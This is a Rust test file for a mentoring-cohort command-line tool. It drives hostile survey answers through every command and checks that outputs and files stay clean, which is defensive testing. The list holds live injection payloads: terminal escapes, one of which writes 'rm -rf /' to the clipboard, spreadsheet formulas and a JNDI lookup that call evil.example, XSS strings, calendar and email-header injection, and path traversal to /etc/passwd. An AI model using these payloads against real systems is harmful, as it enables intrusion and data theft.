//! Hostile text from surveys and the command line, driven through every verb into every sink, and read there by real parsers.
//!
//! The oracle is a cohort of the same shape with harmless names: whatever is committed has to be the same to the byte, and whatever
//! is shown or kept has to have the same records, events, properties and values in the same places.

use std::collections::BTreeSet;
use std::fs;

use icalendar::{Calendar, CalendarComponent};
use serde_json::Value;

use super::cohort::{Cohort, HEAD_OF_MENTEES, HEAD_OF_MENTORS, Said};
use super::hidden::{blotted, committed};

/// What somebody may type into a survey. A name is one of these and a number.
const HOSTILE: [&str; 34] = [
    "\u{1b}]0;title\u{7}Anna\u{1b}[2K\u{1b}[1A",
    "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "\u{9b}31mred\u{9b}0m",
    "back\u{8}\u{8}\u{8}\u{7f}space\u{b}\u{c}",
    "Anna \u{202e}gnp.exe\u{2066}turned\u{2069}\u{200f}",
    "first\rsecond",
    "first\nsecond\u{2028}third\u{85}fourth",
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "+1+1",
    "-Marie",
    "@SUM(A1)",
    "'=1+1",
    "''+1",
    "\t=1+1",
    "＝1+1",
    "\"><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "| a | b |\\| `x` # H",
    "```\n# heading\n- item",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
    "a\";X-INJ=\"b:c\\,d\\n",
    "A\r\nBcc: everybody@evil.example",
    "../../../etc/passwd",
    "COM1",
    "con.csv:stream",
    "علی\u{200c}رضا مرادی",
    "Аnna Ѕmith",
    "{{7*7}} ${jndi:ldap://evil.example/x} %s%n%x",
    "x :done, crit, 2020-01-01, 9d %%{init: {}}%%",
    "--help",
    "\u{feff}\u{200b}hid\u{200b}den\u{ad}",
    "one,\"two\",three",
];

/// Texts that are too long to stand in a table.
fn floods() -> [String; 3] {
    ["Longname".repeat(1_250), format!("Z{}algo", "\u{300}\u{489}".repeat(2_000)), "👨‍👩‍👧‍👦".repeat(500)]
}

fn hostile() -> Vec<String> {
    HOSTILE.iter().map(|text| (*text).to_owned()).chain(floods()).collect()
}

/// As many harmless texts.
fn harmless() -> Vec<String> {
    hostile().iter().map(|_| "Anna Birch".to_owned()).collect()
}

/// An export in which everybody has a number of their own, with these texts as names, employers and specialties.
fn export(head: &str, texts: &[String], side: &str, more: impl Fn(usize) -> [String; 2]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new().from_writer(head.as_bytes().to_vec());
    for (number, text) in texts.iter().enumerate() {
        let [goals, conflicts] = more(number);
        let named = format!("{text} {side}{number}x");
        let address = format!("{side}{number}@trust.example");
        let days = if number % 2 == 0 { "Monday;Tuesday" } else { "Wednesday" };
        writer.write_record([&named, &address, &goals, &named, "", "North", &named, &conflicts, days, "Yes"]).unwrap();
    }
    writer.into_inner().unwrap()
}

/// A cohort of these people, lived through; everything that was said on the way.
fn lived(texts: &[String], more: impl Fn(usize) -> [String; 2] + Copy) -> (Cohort, Vec<(String, Said)>) {
    let cohort = Cohort::new();
    fs::write(cohort.path("private/surveys/mentors.csv"), export(HEAD_OF_MENTORS, texts, "r", more)).unwrap();
    fs::write(cohort.path("private/surveys/mentees.csv"), export(HEAD_OF_MENTEES, texts, "e", more)).unwrap();
    let mut said = Vec::new();
    let mut run = |words: &[&str], formats: &[&str]| {
        for format in formats {
            let shown = cohort.ok_words(&[words, &["--format", format]].concat());
            said.push((format!("{words:?} as {format}"), Said { err: colourless(&shown.err), ..shown }));
        }
    };
    let all = &["table", "json", "csv"];
    run(&["survey"], all);
    run(&["import"], &["json"]);
    run(&["match", "--seed", "7", "--today", "2026-11-01"], &["json"]);
    let pair = cohort.pairs()[0].clone();
    let (mentor, mentee) = pair.split_once('-').unwrap();
    run(&["reveal", "--on", "2026-12-01"], &["table"]);
    run(&["meeting", "held", &pair, "1", "--on", "2026-12-01", "--today", "2026-12-02"], &["json"]);
    let words = texts.iter().take(34).map(String::as_str).collect::<Vec<_>>().join(" / ");
    let reason = format!("--reason={words}");
    run(&["conflict", "add", "M02", "E02", &reason], &["json"]);
    run(&["withdraw", mentor, &reason, "--today", "2027-01-20"], &["table"]);
    run(&["match", "--today", "2027-01-21"], all);
    run(&["schedule", "--today", "2027-01-22"], &["csv"]);
    run(&["calendar", "--today", "2027-01-22"], &["json"]);
    for words in
        [&["conflict", "list"][..], &["status", "--today", "2027-02-22"], &["explain", mentee], &["explain", "M02", "E02"]]
    {
        run(words, all);
    }
    run(&["log"], &["table"]);
    run(&["verify"], &["csv"]);
    run(&["check"], &["table"]);
    (cohort, said)
}

/// Without the colours of the program's own messages.
fn colourless(text: &str) -> String {
    let mut parts = text.split("\u{1b}[");
    let first = parts.next().unwrap_or_default().to_owned();
    let rest = |part: &str| match part.split_once('m') {
        Some((codes, rest)) if codes.bytes().all(|byte| byte.is_ascii_digit() || byte == b';') => rest.to_owned(),
        _ => format!("\u{1b}[{part}"),
    };
    first + &parts.map(rest).collect::<String>()
}

fn no_topic(number: usize) -> [String; 2] {
    [format!("topic {}", number % 5), String::new()]
}

/// Nothing that moves a cursor, turns a direction or breaks a line.
fn is_plain(text: &str) -> bool {
    let turns = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}');
    !text.chars().any(|c| c.is_control() && c != '\n' || turns(c))
}

fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

/// The number of cells of each record.
fn records(text: &str, what: &str) -> Vec<usize> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(|record| record.unwrap()).collect();
    for cell in records.iter().flatten() {
        assert!(!is_formula(cell) && !cell.contains('\n'), "{what}: {cell:?}");
    }
    records.iter().map(csv::StringRecord::len).collect()
}

/// A document without its texts.
fn shape(value: &Value) -> Value {
    match value {
        Value::Array(items) => items.iter().map(shape).collect(),
        Value::Object(members) => members.iter().map(|(key, value)| (key.clone(), shape(value))).collect(),
        Value::String(text) => {
            assert!(is_plain(text) && !text.contains('\n'), "{text:?}");
            Value::Null
        }
        other => other.clone(),
    }
}

/// The events of a calendar file, and the names of its properties.
fn events(text: &str) -> (usize, BTreeSet<String>) {
    assert!(!text.replace("\r\n", "").contains(['\r', '\n']), "a line ends otherwise than by CRLF");
    let calendar: Calendar = text.parse().unwrap();
    let events = calendar.components.iter().filter(|part| matches!(part, CalendarComponent::Event(_))).count();
    let unfolded = text.replace("\r\n ", "");
    assert_eq!(unfolded.lines().filter(|line| *line == "BEGIN:VEVENT").count(), events);
    assert!(unfolded.lines().all(is_plain), "{unfolded}");
    let names = unfolded.lines().map(|line| line.split([':', ';']).next().unwrap().to_owned());
    (events, names.collect())
}

#[test]
fn a_name_is_nothing_but_a_name_in_every_sink() {
    let (named, shown) = lived(&hostile(), no_topic);
    let (plain, expected) = lived(&harmless(), no_topic);
    same_committed(&named, &plain);
    same_shown(&shown, &expected);
    same_private(&named, &plain);
    let register = named.read("private/register.csv");
    assert!(register.contains("علی\u{200c}رضا"), "joiners that a name needs stay");
    assert!(register.contains("Аnna Ѕmith") && !register.contains('\u{200b}'));
    let mut rows = csv::Reader::from_reader(register.as_bytes());
    let longest = rows.records().filter_map(|row| row.unwrap().get(2).map(|name| name.chars().count())).max();
    assert!(longest <= Some(200), "floods are cut: {longest:?}");
}

/// Every committed file is the same to the byte, but for keyed digests of what was answered.
fn same_committed(named: &Cohort, plain: &Cohort) {
    let (one, other) = (committed(named), committed(plain));
    assert_eq!(one.keys().collect::<Vec<_>>(), other.keys().collect::<Vec<_>>());
    for (name, text) in &one {
        assert_eq!(blotted(text).1, blotted(&other[name]).1, "{name} depends on what people are called");
    }
    assert!(one.len() > 70);
}

/// Every document has the same records, members and numbers.
fn same_shown(shown: &[(String, Said)], expected: &[(String, Said)]) {
    assert_eq!(shown.len(), expected.len());
    for ((verb, shown), (_, expected)) in shown.iter().zip(expected) {
        assert!(is_plain(&shown.out) && is_plain(&shown.err), "{verb}\n{:?}", shown.out);
        // What `survey` says of lengths and oddities is about the text itself.
        let same = !verb.contains("survey");
        if verb.ends_with("json") && !expected.out.is_empty() {
            let read = |text: &str| {
                let mut document: Value = serde_json::from_str(text).unwrap_or_else(|error| panic!("{verb}: {error}\n{text}"));
                // They are about the text itself, too.
                let problems = document.as_object_mut().and_then(|document| document.remove("problems"));
                // How many pairs a rule forbids depends on which answers are alike.
                document.as_object_mut().and_then(|document| document.remove("rules"));
                let are_problems = |list: &Vec<Value>| list.iter().all(|problem| problem["code"].is_string());
                assert!(problems.is_none_or(|found| found.as_array().is_some_and(are_problems)), "{verb}\n{text}");
                shape(&document)
            };
            let (shown, expected) = (read(&shown.out), read(&expected.out));
            assert!(!same || shown == expected, "{verb}\n{shown:#}\n{expected:#}");
        }
        if verb.ends_with("csv") {
            let (shown, expected) = (records(&shown.out, verb), records(&expected.out, verb));
            assert!(!same || shown == expected, "{verb}\n{shown:?}\n{expected:?}");
        }
    }
}

/// Every private file has the same name, and the same records or events in it.
fn same_private(named: &Cohort, plain: &Cohort) {
    let (files, expected) = (named.tree(), plain.tree());
    assert_eq!(files.keys().collect::<Vec<_>>(), expected.keys().collect::<Vec<_>>(), "a name of a file is somebody's");
    let mut calendars = 0;
    for (name, bytes) in files.iter().filter(|(name, _)| !name.starts_with("private/surveys/")) {
        let (Ok(text), Ok(like)) = (std::str::from_utf8(bytes), std::str::from_utf8(&expected[name])) else { continue };
        match name.rsplit('.').next() {
            Some("ics") => {
                assert_eq!(events(text), events(like), "{name}");
                calendars += 1;
            }
            Some("csv") => {
                assert_eq!(records(text, name), records(like, name), "{name}");
                assert!(is_plain(text) && text.lines().count() == like.lines().count(), "{name}");
            }
            _ => {}
        }
    }
    assert!(calendars > 70, "{calendars}");
}

/// Whom people named, and what they would talk about: texts that are read, compared and asked about.
#[test]
fn hostile_answers_are_read_as_answers() {
    let texts = hostile();
    let (cohort, said) = lived(&harmless(), |number| {
        let text = texts[number].replace(';', ",");
        [text.clone(), text]
    });
    for (verb, shown) in &said {
        assert!(is_plain(&shown.out) && is_plain(&shown.err), "{verb}\n{:?}", shown.out);
        if verb.ends_with("json") && !shown.out.is_empty() {
            shape(&serde_json::from_str(&shown.out).unwrap());
        }
        if verb.ends_with("csv") {
            records(&shown.out, verb);
        }
    }
    for (name, bytes) in cohort.tree() {
        let private = name.starts_with("private/");
        let text = String::from_utf8_lossy(&bytes).into_owned();
        assert!(private || !text.contains("evil.example") && !text.contains("onerror"), "{name} repeats an answer");
        if name.rsplit('.').next() == Some("csv") && !name.starts_with("private/surveys/") {
            records(&text, &name);
        }
    }
}

/// Ids and addresses that are none, and files that are no text: refused by name of row and column, and nothing is written.
#[test]
fn what_no_text_may_be_is_refused() {
    let half = |text: &str| -> Vec<u8> {
        let units = [0xFEFF].into_iter().chain(text.encode_utf16()).chain([0xD800, u16::from(b'\n')]);
        units.flat_map(u16::to_le_bytes).collect()
    };
    let row = |name: &str, address: &str| format!("{HEAD_OF_MENTORS}{name},{address},exams,,,North,T,,Monday,Yes\n");
    for (what, bytes) in [
        ("an unpaired surrogate", half(&row("Anna Birch", "a@x.example"))),
        ("a NUL", row("Anna\0Birch", "a@x.example").into_bytes()),
        ("an address with a header in it", row("Anna Birch", "\"a@x.example\r\nBcc: b@x.example\"").into_bytes()),
        ("two addresses", row("Anna Birch", "\"a@x.example,b@x.example\"").into_bytes()),
    ] {
        let cohort = Cohort::new();
        fs::write(cohort.path("private/surveys/mentors.csv"), bytes).unwrap();
        let before = cohort.tree();
        let said = cohort.run("match");
        let said = Said { err: colourless(&said.err), ..said };
        assert!(said.status == 2 && cohort.tree() == before, "{what}: {} {}", said.status, said.err);
        assert!(is_plain(&said.err) && said.err.contains("mentors.csv"), "{what}: {}", said.err);
    }
    let cohort = Cohort::matched();
    let before = cohort.tree();
    for word in ["../x", "COM1", "CON", "M00", "M99999999", "\u{1b}[2J", "M01\u{202e}", "M01/../../x", "=M01", ""] {
        for words in [vec!["withdraw", word], vec!["explain", word], vec!["meeting", "held", word, "1"], vec!["erase", word]] {
            let said = cohort.run_words(&words);
            let said = Said { err: colourless(&said.err), ..said };
            assert!(
                said.status == 2 || said.status == 0 && word == "M01\u{202e}" && words[0] == "explain",
                "{words:?} {}",
                said.err
            );
            assert!(is_plain(&said.err) && is_plain(&said.out), "{words:?} {:?}", said.err);
        }
    }
    assert!(cohort.tree() == before);
}
